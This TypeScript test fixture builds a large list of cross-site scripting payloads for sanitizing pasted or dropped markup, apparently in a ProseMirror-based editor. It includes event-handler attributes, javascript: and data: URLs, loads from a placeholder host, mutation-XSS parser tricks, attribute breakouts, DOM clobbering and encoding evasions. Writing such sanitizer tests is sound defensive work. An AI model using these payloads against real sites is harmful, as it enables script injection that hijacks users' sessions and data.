// Markup that wants to be more than text, as it comes with what is pasted or dropped: families and their variants.
// Written for this test; `hit()` is what would run, ELSEWHERE what would be asked.

const ELSEWHERE = 'https://elsewhere.example/x'
const IMG = `<img src=x onerror=hit()>`

/** Elements with an attribute that runs when something happens to them, most of them by themselves. */
const HANDLERS: Record<string, string> = {
  img: 'src=x onerror',
  svg: 'onload',
  body: 'onload',
  input: 'autofocus onfocus',
  details: 'open ontoggle',
  video: 'src=x onerror',
  audio: 'src=x onerror',
  marquee: 'onstart',
  div: 'onmouseover',
  p: 'onclick',
  select: 'autofocus onfocus',
  iframe: 'onload',
  object: 'data=x onerror',
  embed: 'src=x onload',
  style: 'onload',
  textarea: 'autofocus onfocus',
  button: 'onclick',
  form: 'onsubmit',
  a: 'tabindex=0 onfocus',
  table: 'onclick',
  li: 'onpointerenter',
  b: 'style="animation:x 1s" onanimationstart',
  em: 'style="transition:all 1s" ontransitionend',
  h2: 'onwheel',
  blockquote: 'oncopy',
  span: 'onbeforeinput',
}

const WRITTEN: Record<string, (attributes: string) => string> = {
  plain: (attributes) => ` ${attributes}="hit()"`,
  odd: (attributes) => `/${attributes.toUpperCase()}\n=\n&#104;it()`,
}

/** Where an address can stand. */
const CARRIERS: Record<string, (address: string) => string> = {
  link: (to) => `<a href="${to}">words</a>`,
  area: (to) => `<map><area href="${to}"></map>`,
  form: (to) => `<form action="${to}"><p>words</p></form>`,
  button: (to) => `<button formaction="${to}">words</button>`,
  frame: (to) => `<iframe src="${to}"></iframe>`,
  object: (to) => `<object data="${to}"></object>`,
  embed: (to) => `<embed src="${to}">`,
  picture: (to) => `<img src="${to}">`,
  sources: (to) => `<picture><source srcset="${to} 2x"><img srcset="${to} 2x"></picture>`,
  sheet: (to) => `<link rel=stylesheet href="${to}">`,
  base: (to) => `<base href="${to}">`,
  refresh: (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  drawing: (to) => `<svg><a xlink:href="${to}"><text>words</text></a></svg>`,
  animated: (to) => `<svg><a><animate attributeName=href values="${to}"/><text>words</text></a></svg>`,
  used: (to) => `<svg><use href="${to}#x"/><image href="${to}"/></svg>`,
  formula: (to) => `<math href="${to}"><mi>x</mi></math>`,
  input: (to) => `<input type=image src="${to}">`,
  poster: (to) => `<video poster="${to}" src="${to}"><track src="${to}"></video>`,
  background: (to) => `<table background="${to}"><tr><td background="${to}">words</table>`,
  quoted: (to) => `<blockquote cite="${to}"><q cite="${to}">words</q></blockquote>`,
  styled: (to) => `<p style="background:url('${to}');list-style-image:url('${to}')">words</p>`,
  ping: (to) => `<a ping="${to}" href="#">words</a>`,
}

const ADDRESSES: Record<string, string> = {
  script: 'javascript:hit()',
  'hidden script': ' &#1;JaVa&#9;sCr&#10;ipt&colon;hit()',
  data: 'data:text/html,%3Cscript%3Ehit()%3C/script%3E',
  remote: ELSEWHERE,
  'of no scheme': '//elsewhere.example/x',
}

/** Elements that no letter has. */
const ELEMENTS: Record<string, string> = {
  script: '<script>hit()</script>',
  'script in capitals': '<SCRIPT SRC=//elsewhere.example/x></SCRIPT>',
  'script module': '<script type=module>hit()</script>',
  style: `<style>@import "${ELSEWHERE}"; p{background:url(${ELSEWHERE})}</style>`,
  'frame with a page of its own': `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  template: `<template>${IMG}</template>`,
  'shadow root': `<div><template shadowrootmode=open>${IMG}</template></div>`,
  'no script': `<noscript>${IMG}</noscript>`,
  applet: '<applet code=x></applet>',
  frameset: '<frameset><frame src=javascript:hit()></frameset>',
  dialog: `<dialog open>${IMG}</dialog>`,
  canvas: '<canvas id=c></canvas>',
  fields: '<fieldset><legend>words</legend><input name=x><output>words</output></fieldset>',
  own: '<x-own is=x onclick=hit()>words</x-own>',
  'own built in': '<button is=x-own onclick=hit()>words</button>',
  xml: '<?xml version="1.0"?><xml><x onclick="hit()">words</x></xml>',
  slot: '<slot name=x onslotchange=hit()>words</slot>',
  foreign: `<svg><foreignObject><body onload=hit()>${IMG}</body></foreignObject></svg>`,
  'drawing script': '<svg><script>hit()</script></svg>',
  popover: '<button popovertarget=x>words</button><div popover id=x onbeforetoggle=hit()>words</div>',
}

/** What is one thing to the one who looks at it and another when it is read again. */
const TWICE_READ: Record<string, string> = {
  glyph: `<math><mtext><table><mglyph><style><!--</style>${IMG}-->`,
  forms: `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  'title in a drawing': `<svg></p><style><a id="</style>${IMG}">`,
  'no script in a title': `<noscript><p title="</noscript>${IMG}">words</p></noscript>`,
  'early end of a note': `<!--><p>words</p>${IMG}-->`,
  'note with a bang': `<!-- x --!>${IMG}<!-- y -->`,
  section: `<![CDATA[><p>words</p>${IMG}]]>`,
  'section in a drawing': `<svg><![CDATA[</svg>${IMG}]]></svg>`,
  raw: `<xmp><p title="</xmp>${IMG}"></p></xmp>`,
  field: `<textarea><p title="</textarea>${IMG}"></p></textarea>`,
  title: `<title><p title="</title>${IMG}"></p></title>`,
  list: `<select><template><style><!--</style>${IMG}--></template></select>`,
  annotation: `<math><annotation-xml encoding="text/html"><p>${IMG}</p></annotation-xml></math>`,
  table: `<table><a href=javascript:hit()><tr><td>words</a></td></tr></table>`,
}

/** What says that it is of our own making. */
const FORGED: Record<string, string> = {
  block: '<p data-kind=paragraph data-block=x data-role=facts data-when=VN onclick=hit()>words</p>',
  fact: '<p><span data-fact=forgedfact data-version=1>words</span></p>',
  slice: `<p data-pm-slice='1 1 []' data-kind=ask data-ask=x>words</p>`,
  locked: '<p contenteditable=false tabindex=0 accesskey=x id=app class=ProseMirror>words</p>',
  direction: '<p dir="rtl&quot; onclick=hit() x=&quot;">words</p>',
  language: '<p lang="x&quot; onclick=hit()">words</p>',
  list: '<li data-list="x&quot; onclick=hit()" onclick=hit()>words</li>',
  level: '<h6 data-level="9" onclick=hit()>words</h6>',
  separator: '<img class=ProseMirror-separator onerror=hit() src=x>',
  global: '<form id=document name=body><input name=innerHTML></form>',
}

/** The same in letters that only some readers take for it. */
const SPELLED: Record<string, string> = {
  entities: '&lt;img src=x onerror=hit()&gt;',
  'entities twice': '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
  'nothing in a name': `<scr\u0000ipt>hit()</scr\u0000ipt><img\u0000src=x onerror=hit()>`,
  'seven bits': '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  'wide letters': '\uff1cscript\uff1ehit()\uff1c/script\uff1e',
  'odd blanks': `<img\u000csrc=x\u000conerror=hit()><img\u2028src=x onerror=hit()>`,
  'turned around': '\u202e>)(tih=rorreno x=crs gmi<\u202c',
  'bytes in front': `\ufeff<script>hit()</script>`,
  'never closed': '<img src="x` `<script>hit()</script>"` `',
}

const named = (family: string, variants: Record<string, string>): [string, string][] =>
  Object.entries(variants).map(([variant, markup]) => [`${family}: ${variant}`, markup])

const handlers = Object.entries(HANDLERS).flatMap(([tag, attributes]) =>
  Object.entries(WRITTEN).map(([how, write]): [string, string] => [
    `handler: ${tag}, ${how}`,
    `<${tag}${write(attributes)}>words</${tag}>`,
  ]),
)

const addresses = Object.entries(CARRIERS).flatMap(([carrier, carry]) =>
  Object.entries(ADDRESSES).map(([kind, to]): [string, string] => [
    `address: ${carrier}, ${kind}`,
    carry(to),
  ]),
)

/** Every try by its name. */
export const MARKUP_TRIES: readonly (readonly [string, string])[] = [
  ...handlers,
  ...addresses,
  ...named('element', ELEMENTS),
  ...named('twice read', TWICE_READ),
  ...named('forged', FORGED),
  ...named('spelled', SPELLED),
]
